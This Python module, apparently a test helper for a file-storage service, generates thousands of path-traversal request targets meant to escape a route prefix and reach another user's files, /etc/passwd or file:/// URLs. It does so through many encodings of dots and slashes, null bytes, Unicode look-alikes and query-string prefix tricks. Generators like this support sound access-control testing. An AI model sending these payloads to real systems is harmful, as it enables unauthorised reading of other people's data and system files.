"""Ways to write a path that leads somewhere else, for somebody: thousands of targets that try to leave a prefix."""

import itertools
import random

DOTS = [
    "..", ".", "%2e%2e", ".%2e", "%2E.", "%2E%2E", "%252e%252e", "%25252e%25252e", "%252E.", "..;", "..;x=1", "%2e%2e%3b", "..%3bx", "%c0%ae%c0%ae",
    "%e0%80%ae%e0%80%ae", "%f0%80%80%ae.", "%ef%bc%8e%ef%bc%8e", "%e2%80%a4%e2%80%a4", "..%00", "%00..", "..%09", "..%20", "..%2500", "..%3f", "..%23",
    "..%5c", "...", "....", "..%2e", "..%c2%85", "%u002e%u002e", "..%", "..%ef%bb%bf", "%e2%80%8b..", "\xef\xbc\x8e\xef\xbc\x8e",
]
SLASHES = [
    "/", "//", "%2f", "%2F", "\\", "%5c", "%5C", "%252f", "%255c", "%25252F", "%c0%af", "%e0%80%af", "%ef%bc%8f", "%e2%88%95", "%e2%81%84", "/./", "/;/",
    "/%2e/", ";/", "%3b/", "%0a/", "/%00/", "%c1%9c",
]
# {r}: the route, {a}: the caller's own id, {b}: the other's, {f}: a file of the other's, {d}: dots, {s}: a slash.
SHAPES = [
    "{r}/{d}{s}{b}{s}{f}", "{r}{s}{d}{s}{b}{s}{f}", "{r}/x{s}{d}{s}{d}{s}{b}/{f}", "{r}/{d}{s}{d}{s}users{s}{b}{s}{f}", "{r}/{a}{s}{d}{s}{b}/{f}",
    "{r}/{d}{s}{d}{s}{d}{s}etc/passwd",
]
FIXED = [
    "{r}/users/{b}/{f}", "{r}/{b}/{f}", "{r}/users%2f{b}%2f{f}", "{r}/{b}", "{r}/{f}", "{r}?users/{b}/{f}", "{r}/?/../{b}/{f}", "{r}/#/../{b}/{f}",
    "{r}/..%2f..%2f..%2f{bucket}/users/{b}/{f}", "{r}//{bucket}/users/{b}/{f}", "{r}/{bucket}/users/{b}/{f}", "{r}/x?prefix=users/{b}/&prefix=",
    "{r}/{f}?prefix=", "{r}/{f}?prefix=../{b}/", "{r}/{f}?prefix=users/{a}/../{b}/", "{r}/{f}?key=users/{b}/{f}", "{r}/{f}?x-id=GetObject",
    "http://localhost{r}/../{b}/{f}", "http://localhost{r}/%2e%2e/{b}/{f}", "http://users/{b}/{f}", "http://localhost/{bucket}/users/{b}/{f}",
    "//{bucket}/users/{b}/{f}", "/{bucket}/users/{b}/{f}", "s3://{bucket}/users/{b}/{f}", "file:///etc/passwd", "http://localhost//{b}/{f}", "*", "",
    "users/{b}/{f}", "../{b}/{f}", "{r}/.", "{r}/..", "{r}/./{f}", "{r}/{f}/", "{r}/{f}/.", "{r}/{f}/..", "{r}/{f}%00.png", "{r}/{f}%20", "{r}/{f}.",
    "{r}/{f}...", "{r}/{f}::$DATA", "{r}/{f};x", "{r}/CON", "{r}/~root/{f}", "{r}/~{b}/{f}", "{r}/%7e{b}/{f}", "{r}/$({b})/{f}", "{r}/{{sub}}/../{b}/{f}",
    "{r}/%7Bsub%7D/{f}", "{R}/{b}/{f}", "{r}/.{b}/{f}", "{r}/\xe2\x80\xae{b}/{f}", "{r}/%EF%BC%A1/{f}", "{r}/..%ff/{b}/{f}", "{r}/%ff/{f}", "{r}/{b}\t/{f}",
    "{r} /{b}/{f}", "{r}/ ../{b}/{f}", "{r}/..\t/{b}/{f}", "{r}/..\x0b/{b}/{f}", "{r}/..\x00/{b}/{f}", "{r}/..\x7f/{b}/{f}",
]
ATOMS = [".", "..", "/", "\\", ";", "%", "?", "#", "users", "{a}", "{b}", "{f}", "x", " ", "\xef\xbc\x8e", "\xef\xbc\x8f", "\x00", "\xc0\xae", "\xc0\xaf", "//", "~", ":", "@"]


def encoded(text, layers, random):
    """Some bytes percent-encoded, in `layers` layers of their own choice."""
    for _ in range(layers):
        text = "".join(
            random.choice((f"%{ord(c):02x}", f"%{ord(c):02X}")) if random.random() < (0.9 if c in "./\\%;" else 0.1) else c for c in text)
    return text


def mixed(count, seed=1):
    """Atoms in any order, each in layers of its own."""
    chosen = random.Random(seed)
    for _ in range(count):
        atoms = [chosen.choice(ATOMS) for _ in range(chosen.randint(1, 9))]
        yield "{r}/" + "".join(atom if "{" in atom else encoded(atom, chosen.randint(0, 3), chosen) for atom in [*atoms, "/", "{b}", "/", "{f}"])


def targets(route, own, other, file, bucket="bucket", random_ones=1500) -> list[str]:
    """Targets of requests, latin-1. `file` may be empty, for a folder."""
    values = {"r": route, "R": route.upper(), "a": own, "b": other, "f": file, "bucket": bucket}
    found = [shape.format(d=d, s=s, **values) for shape, d, s in itertools.product(SHAPES, DOTS, SLASHES)]
    found += [shape.format(**values) for shape in FIXED]
    for shape in mixed(random_ones):
        for name in ("r", "a", "b", "f"):
            shape = shape.replace("{" + name + "}", values[name])
        found.append(shape)
    return list(dict.fromkeys(found))
